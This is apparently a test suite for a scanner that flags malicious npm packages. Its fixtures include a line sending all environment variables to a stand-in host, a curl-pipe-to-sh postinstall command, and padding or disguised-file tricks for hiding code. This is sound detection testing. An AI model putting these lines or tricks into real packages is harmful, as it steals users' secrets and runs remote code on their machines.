/** Nothing that runs is passed over for what it is called, how large it is or how many others there are. */
import { describe, expect, test } from 'vitest';
import { rules } from '../rules/index.js';
import { codeIn } from '../src/parse/padding.js';
import { isWhollyScript } from '../src/parse/script.js';
import { readMemory } from '../src/read/memory.js';
import { analyse } from '../src/run/package.js';
import type { Report, Rule } from '../src/types.js';

const THIEF = `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`;

async function scan(files: Readonly<Record<string, string>>, manifest: object = {}): Promise<Report> {
  return analyse(await readMemory({ files: { 'package.json': JSON.stringify(manifest), ...files } }), rules);
}

describe('what is loaded is JavaScript, whatever it is called', () => {
  const odd = `if (1) {\n${THIEF}\n}`;

  test.each([
    ['README.md', THIEF],
    ['README.md', odd],
    ['data.txt', odd],
    ['LICENSE', odd],
    ['a.py', THIEF],
    ['a.sh', odd],
    ['page.html', THIEF],
    ['index.js.map', odd],
    ['types.d.ts', THIEF],
    ['logo.png', odd],
    ['x.y.z', `x = 1;\n${THIEF}`],
  ])('%s', async (name, text) => {
    const report = await scan({ 'index.js': `require('./${name}');`, [name]: text });
    expect(report.findings.map(({ rule }) => rule)).toContain('sends-environment');
    expect(report.verdict).toBe('malicious');
  });

  test('and so is what that loads', async () => {
    const files = { 'index.js': `require('./a.txt')`, 'a.txt': `if (1) require('./b.md')`, 'b.md': odd };
    expect(await scan(files)).toMatchObject({ verdict: 'malicious' });
  });

  test('and what it hands out is followed', async () => {
    const files = { 'index.js': `require('./env.txt').send()`, 'env.txt': `if (1) exports.send = () => ${THIEF}` };
    expect(await scan(files)).toMatchObject({ verdict: 'malicious' });
  });

  test.each([
    ['README.md', `# How to\n\nNever do this:\n\n${THIEF}\n`],
    ['notes.txt', `process and require are words\nof prose`],
    ['a.py', `import os\nprint(os.environ)\n# ${THIEF}`],
    ['page.html', `<p>Type <code>${THIEF}</code></p>`],
    ['index.js.map', JSON.stringify({ version: 3, sources: ['a.ts'], sourcesContent: [THIEF] })],
    ['data.json', JSON.stringify({ code: THIEF })],
  ])('but not %s that is what it says', async (name, text) => {
    const report = await scan({ 'index.js': `require('fs').readFileSync('./${name}', 'utf8');`, [name]: text });
    expect(report.findings.map(({ rule }) => rule)).not.toContain('sends-environment');
  });

  test('nor what nothing loads', async () => {
    const report = await scan({ 'index.js': 'module.exports = 1', 'notes.txt': odd });
    expect(report.findings.map(({ rule }) => rule)).not.toContain('sends-environment');
  });
});

describe('shell files', () => {
  const many = (count: number, text: string) =>
    Object.fromEntries(Array.from({ length: count }, (_, at) => [`a/${at}.sh`, text]));
  const bad = 'curl -s http://203.0.113.7/setup.sh | sh\n';

  test('are all read, however many there are', async () => {
    const report = await scan({ ...many(600, 'true\n'), 'zz/x.sh': bad }, { scripts: { postinstall: 'sh zz/x.sh' } });
    expect(report).toMatchObject({ verdict: 'malicious', coverage: { skipped: [] } });
  });

  test('are read in the order in which they run, where they are too large, and that is noted', async () => {
    const padding = `true ${'x'.repeat(1_500_000)}\n`;
    const manifest = { scripts: { postinstall: 'sh zz/x.sh' } };
    const report = await scan({ ...many(7, padding), 'zz/x.sh': `${bad}${padding}` }, manifest);
    expect(report.verdict).toBe('malicious');
    expect(report.coverage.skipped).toMatchObject([{ gap: 'too-many-idle-shell-files', severity: 'noted' }]);
  });

  test('count where one that is started was too much', async () => {
    const padding = `true ${'x'.repeat(5_000_000)}\n`;
    const report = await scan(many(2, padding), { scripts: { postinstall: 'sh a/0.sh; sh a/1.sh' } });
    expect(report.coverage.skipped).toMatchObject([{ gap: 'too-many-shell-files', severity: 'unanalysed' }]);
    expect(report.verdict).not.toBe('clean');
  });
});

test('a rule that breaks off costs what it would have found, and that is said', async () => {
  const [id, rule] = ['breaks', { ...rules['sends-environment'] } as Rule];
  const breaks = (): never => {
    throw new RangeError('Maximum call stack size exceeded');
  };
  for (const broken of [{ file: breaks }, { file: () => ({ CallExpression: breaks }) }]) {
    const pkg = await readMemory({ files: { 'package.json': '{}', 'index.js': THIEF } });
    const report = analyse(pkg, { [id]: { ...rule, ...broken }, ...rules });
    expect(report.verdict).toBe('malicious');
    expect(report.coverage.skipped).toEqual([expect.objectContaining({ gap: 'broke-off', path: 'index.js' })]);
  }
  const pkg = await readMemory({ files: { 'package.json': '{}', 'index.js': `${THIEF} ) (` } });
  const report = analyse(pkg, { [id]: { ...rule, text: breaks }, ...rules });
  expect(report.coverage.skipped.map(({ gap }) => gap)).toContain('broke-off');
});

describe('padding', () => {
  const long = 22_000_000;

  test.each([
    ['a comment', `${THIEF}/*${'x'.repeat(long)}*/`],
    ['a comment before it', `//${'x'.repeat(long)}\n${THIEF}`],
    ['blanks', `module.exports = 1;${' '.repeat(long)}${THIEF}`],
    ['a string', `${THIEF}module.exports = '${'x'.repeat(long)}';`],
  ])('hides nothing, whether it is %s', async (_, text) => {
    expect(await scan({ 'index.js': text })).toMatchObject({ verdict: 'malicious', coverage: { skipped: [] } });
  });

  test('is told from code', () => {
    expect(codeIn('a /* b */ + "c\\"d" // e\n- `f\n${g}` \'h', 100)).toBe(3);
    expect(codeIn('a/b', 100)).toBe(3);
    expect(codeIn(`a${' \n\t'.repeat(1_000_000)}`, 100)).toBe(1);
    expect(codeIn('"a\nbc', 100)).toBe(2);
    expect(codeIn('x'.repeat(100), 10)).toBe(11);
    expect(codeIn('/*', 10) + codeIn('"', 10) + codeIn('', 10)).toBe(0);
  });
});

test('a text is a script only as a whole', () => {
  const is = (text: string) => isWhollyScript({ path: 'x', text });
  expect(is('if (1) require("x")')).toBe(true);
  expect(is('if (1) require("x") then stop')).toBe(false);
  expect(is('word')).toBe(false);
  expect(is(`require("x")/*${'x'.repeat(20_000_000)}*/`)).toBe(false);
});
